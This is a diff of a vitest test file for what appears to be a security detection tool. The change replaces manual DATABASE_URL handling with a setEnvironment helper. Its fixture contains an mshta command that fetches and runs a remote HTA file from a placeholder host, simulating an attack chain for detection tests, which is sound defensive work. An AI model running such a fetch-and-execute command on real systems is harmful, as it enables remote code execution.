@@ -3,6 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
+import { setEnvironment } from '../base/testEnvironment';
 import { findingDetail, runbookView } from '../contracts/findings';
 import { addComment, setFlag } from '../storage/annotations';
 import { closeStorage, pool } from '../storage/client';
@@ -18,7 +19,7 @@ import { connection, file, query, quiet, start } from './testSysmon';
 
 let database: TestDatabase;
 let spoolDir: string;
-let before: string | undefined;
+let restore: () => void;
 
 /** mshta runs a remote HTA, writes a file and calls out. */
 function chain(host: string, line: string): readonly TestRecord[] {
@@ -34,9 +35,8 @@ function chain(host: string, line: string): readonly TestRecord[] {
 
 beforeAll(async () => {
   spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
-  before = process.env.DATABASE_URL;
   database = await createTestDatabase();
-  process.env.DATABASE_URL = database.url;
+  restore = setEnvironment({ DATABASE_URL: database.url });
   const line = 'mshta "https://cdn.example.net/a b.hta" (x or *)';
   await importWhole(
     toLines([
@@ -50,8 +50,7 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   await closeStorage();
-  if (before === undefined) delete process.env.DATABASE_URL;
-  else process.env.DATABASE_URL = before;
+  restore();
   await database.drop();
   await rm(spoolDir, { recursive: true, force: true });
 });
